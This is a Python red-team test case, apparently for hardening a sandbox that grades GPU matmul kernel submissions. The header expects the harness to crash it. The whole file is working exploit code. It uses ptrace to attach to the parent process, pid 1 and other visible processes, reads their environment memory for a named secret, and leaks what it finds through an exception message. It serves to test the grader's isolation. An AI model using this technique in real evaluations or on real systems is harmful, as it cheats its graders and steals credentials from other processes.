# attack: ptrace-parent
# variant: attach-and-peek-environment
# weakness: a candidate allowed to ptrace its parent or siblings can read (and write) their memory: secrets, expected outputs, timers
# seen: pygpubench exploits/submission_ptrace.py (ptrace POKETEXT from a forked child); docs/sandbox.md section 2.2 ptrace_parent
# task: matmul
# expect: crashed
# side-effect: secret
"""PTRACE_ATTACH to the parent, pid 1 and every other visible process (at most 50), read its environment block
word by word with PTRACE_PEEKDATA, detach at once. A secret found is leaked through an exception message.
No attach possible: fail loudly. Attached but no secret: compute honestly (the verdict then shows the breach)."""

import ctypes
import os

import torch
import torch.nn as nn

PTRACE_PEEKDATA, PTRACE_ATTACH, PTRACE_DETACH = 2, 16, 17
NEEDLE = ("ASSAY_REDTEAM" + "_SECRET=").encode()

_libc = ctypes.CDLL(None, use_errno=True)
_libc.ptrace.restype = ctypes.c_long
_libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]


def _targets():
    pids = [os.getppid(), 1]
    try:
        pids += sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    except OSError:
        pass
    return [p for p in dict.fromkeys(pids) if p > 0 and p != os.getpid()][:50]


def _env_range(pid):
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return int(fields[47]), int(fields[48])  # env_start, env_end (fields 50 and 51 of stat)


def _peek_env(pid):
    try:
        start, end = _env_range(pid)
    except (OSError, IndexError, ValueError):
        start, end = 0, 0
    out = bytearray()
    for addr in range(start, min(end, start + 65536), 8):
        ctypes.set_errno(0)
        word = _libc.ptrace(PTRACE_PEEKDATA, pid, ctypes.c_void_p(addr), None)
        if word == -1 and ctypes.get_errno():
            break
        out += (word & 0xFFFFFFFFFFFFFFFF).to_bytes(8, "little")
    return bytes(out)


class ModelNew(nn.Module):
    def __init__(self, in_features, out_features):
        super().__init__()
        self.weight = nn.Parameter(torch.randn(out_features, in_features) / in_features**0.5)
        self.bias = nn.Parameter(torch.randn(out_features))
        attached, refused, secrets = [], [], []
        for pid in _targets():
            if _libc.ptrace(PTRACE_ATTACH, pid, None, None) != 0:
                refused.append(f"{pid}: errno {ctypes.get_errno()}")
                continue
            try:
                os.waitpid(pid, 0x40000000)  # __WALL
            except OSError:
                pass
            try:
                env = _peek_env(pid)
            finally:
                _libc.ptrace(PTRACE_DETACH, pid, None, None)
            attached.append(pid)
            at = env.find(NEEDLE)
            if at >= 0:
                secrets.append(env[at : env.find(b"\0", at)].decode(errors="replace"))
        if secrets:
            raise RuntimeError("ptrace-parent: " + " | ".join(secrets))
        if not attached:
            raise RuntimeError(f"ptrace-parent blocked: {'; '.join(refused[:6]) or 'no process visible'}")

    def forward(self, x):
        return torch.addmm(self.bias, x, self.weight.t())
